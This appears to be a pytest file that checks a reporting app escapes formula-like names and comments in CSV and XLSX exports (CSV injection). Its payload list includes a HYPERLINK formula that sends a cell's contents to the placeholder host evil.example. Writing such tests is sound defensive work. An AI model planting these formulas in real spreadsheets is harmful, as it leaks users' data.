"""No typed text becomes a live formula in a CSV or XLSX export (CSV injection); numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from reports import exports
from tests.factories import add_initial_rate
from webapp.extensions import db
from webapp.models import Employer
from webapp.models.choices import EmployerAssociation, ReportKind
from webapp.services import deduction_basis, deduction_lists
from webapp.services.periods import Month

DAY = dt.date.today().replace(day=1) - dt.timedelta(days=1)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "@SUM(1)", "+47 1-1", "-2+3", "\t=1+1", "\r=1+1"]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def no_cell_runs(rows: list[list]) -> bool:
    return not any(isinstance(cell, str) and cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row)


@pytest.mark.parametrize("name", FORMULAS)
def test_association_report_csv_and_xlsx_show_a_formula_name_as_text(app_ctx, world, name):
    db.session.get(Employer, world.employers["E1"].id).name = name
    db.session.commit()
    spec = exports.ReportSpec(ReportKind.employer_association, EmployerAssociation.staten)
    _report, files = exports.build(spec, DAY)
    by_extension = {report_file.extension: report_file.data for report_file in files}

    rows = csv_cells(by_extension["csv"])
    assert rows[1][2] == "'" + name and no_cell_runs(rows)

    sheet = load_workbook(io.BytesIO(by_extension["xlsx"])).active
    cells = [list(row) for row in sheet.iter_rows()]
    [enterprise] = [row for row in cells if row[0].value == "974760673"]
    assert enterprise[1].value == "'" + name and enterprise[1].data_type == "s"
    assert enterprise[2].value == 2 and enterprise[2].data_type == "n"  # a number stays a number
    assert no_cell_runs([[cell.value for cell in row] for row in cells])


def test_deduction_list_template_neutralises_names_and_comments_and_reads_them_back(app_ctx, world):
    add_initial_rate()
    deduction_basis.generate(Month(2026, 3))
    deduction_list = deduction_lists.create_list(world.employers["E1"].id, "2026-03", None)
    line = deduction_list.lines[0]
    line.name, line.comment = FORMULAS[0], "@SUM(1)"
    db.session.commit()

    template = deduction_lists.csv_template(deduction_list)
    rows = csv_cells(template.encode())
    assert rows[1][2] == "'" + FORMULAS[0] and rows[1][5] == "'@SUM(1)"
    assert no_cell_runs(rows)
    read_back = deduction_lists.parse_csv(template.encode())
    assert (read_back[0].name, read_back[0].comment) == (FORMULAS[0], "@SUM(1)")  # the upload gets what was typed
